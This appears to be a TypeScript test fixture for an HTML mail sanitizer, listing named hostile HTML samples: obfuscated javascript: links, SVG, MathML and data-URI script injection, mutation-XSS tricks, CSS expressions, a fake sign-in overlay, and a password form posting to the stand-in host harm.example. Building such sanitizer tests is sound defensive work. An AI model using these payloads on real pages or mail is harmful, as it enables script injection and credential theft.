import { HARM } from './mail-case.ts'

const harm = (name: string) => `${HARM}('${name}')`
const base64 = btoa

/**
 * Hostile HTML that hides a script in an address, in SVG, MathML or CSS, or that loads, frames, covers, submits or
 * clobbers something, by name.
 */
export const hostileAddresses: readonly [string, string][] = [
  ['link-javascript', `<a href="javascript:${harm('link-javascript')}">press</a>`],
  ['link-javascript-case', `<a href="JaVaScRiPt:${harm('link-javascript-case')}">press</a>`],
  ['link-javascript-tab', `<a href="java\tscript:${harm('link-javascript-tab')}">press</a>`],
  [
    'link-javascript-entities',
    `<a href="&#106;&#x61;vascript&colon;${harm('link-javascript-entities')}">press</a>`,
  ],
  ['link-javascript-control', `<a href="\u0001 javascript:${harm('link-javascript-control')}">press</a>`],
  ['link-vbscript', `<a href="vbscript:${harm('link-vbscript')}">press</a>`],
  [
    'link-data',
    `<a href="data:text/html;base64,${base64(`<script>top.${harm('link-data')}</script>`)}">press</a>`,
  ],
  ['link-without-quotes', `<a href=javascript:${harm('link-without-quotes')}>press</a>`],
  [
    'picture-javascript',
    `<img src="javascript:${harm('picture-javascript')}"><img dynsrc="javascript:1" lowsrc="javascript:1">`,
  ],
  [
    'picture-data-svg',
    `<img src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${harm('picture-data-svg')}"/>`)}">`,
  ],
  ['picture-own-data-attribute', `<img data-remote-src="javascript:${harm('picture-own-data-attribute')}">`],
  ['frame-inline', `<iframe src="javascript:parent.${harm('frame-inline')}"></iframe>`],
  [
    'frame-source-document',
    `<iframe srcdoc="<script>parent.${harm('frame-source-document')}</script>"></iframe>`,
  ],
  ['frame-set', `<frameset><frame src="javascript:parent.${harm('frame-set')}"></frameset>`],
  ['object-data', `<object data="data:text/html,<script>parent.${harm('object-data')}</script>"></object>`],
  ['embed-source', `<embed src="javascript:${harm('embed-source')}">`],
  ['applet-code', `<applet code="Harm.class" archive="https://harm.example/x.jar"></applet>`],
  ['svg-onload', `<svg onload="${harm('svg-onload')}"></svg>`],
  ['svg-script', `<svg><script>${harm('svg-script')}</script></svg>`],
  ['svg-link', `<svg><a xlink:href="javascript:${harm('svg-link')}"><text x=10 y=10>press</text></a></svg>`],
  [
    'svg-animate',
    `<svg><a><animate attributeName=href values="javascript:${harm('svg-animate')}" /><text>x</text></a></svg>`,
  ],
  [
    'svg-foreign-object',
    `<svg><foreignObject><iframe srcdoc="<script>parent.${harm('svg-foreign-object')}</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'math-link',
    `<math><maction actiontype="statusline" xlink:href="javascript:${harm('math-link')}">press</maction></math>`,
  ],
  [
    'math-mutation',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${harm('math-mutation')}&gt;">`,
  ],
  [
    'form-mutation',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${harm('form-mutation')}>`,
  ],
  ['meta-refresh', `<meta http-equiv="refresh" content="0;url=javascript:${harm('meta-refresh')}">`],
  [
    'meta-charset-utf-7',
    `<meta http-equiv="Content-Type" content="text/html; charset=utf-7">+ADw-script+AD4-${harm('meta-charset-utf-7')}+ADw-/script+AD4-`,
  ],
  ['base-address', `<base href="javascript:/${harm('base-address')}//"><a href="x">press</a>`],
  [
    'link-stylesheet',
    `<link rel="stylesheet" href="https://harm.example/x.css"><link rel="import" href="https://harm.example/x.html">`,
  ],
  [
    'style-import',
    `<style>@import url("https://harm.example/x.css"); body{background:url(https://harm.example/x.png)}</style>`,
  ],
  ['style-expression', `<div style="width:expression(${harm('style-expression')})">w</div>`],
  [
    'style-expression-escaped',
    `<div style="width:\\65 xpression(${harm('style-expression-escaped')})">w</div>`,
  ],
  [
    'style-expression-comment',
    `<div style="width:exp/**/ression(${harm('style-expression-comment')})">w</div>`,
  ],
  [
    'style-behaviour',
    `<div style="behavior:url(https://harm.example/x.htc);-moz-binding:url(https://harm.example/x.xml#x)">b</div>`,
  ],
  [
    'style-picture',
    `<div style="background-image:url('javascript:${harm('style-picture')}');background:url(https://harm.example/p.png)">b</div>`,
  ],
  [
    'style-cover',
    `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999"><a href="https://harm.example/sign-in">Your session ended, sign in</a></div>`,
  ],
  [
    'form-password',
    `<form action="https://harm.example/take" method="post"><input name="password" type="password"><button formaction="javascript:${harm('form-password')}">Sign in</button></form>`,
  ],
  [
    'pixel-tracking',
    `<img src="https://harm.example/pixel.gif?u=1" width="1" height="1"><img srcset="https://harm.example/p2.png 2x"><table background="https://harm.example/b.png"><tr><td>t</td></tr></table>`,
  ],
  [
    'target-opener',
    `<a href="https://harm.example/" target="_top" rel="opener" ping="https://harm.example/ping">press</a>`,
  ],
  [
    'names-that-clobber',
    `<img name="body"><a id="location" href="https://harm.example/">a</a><form id="test" name="querySelector"></form>`,
  ],
]
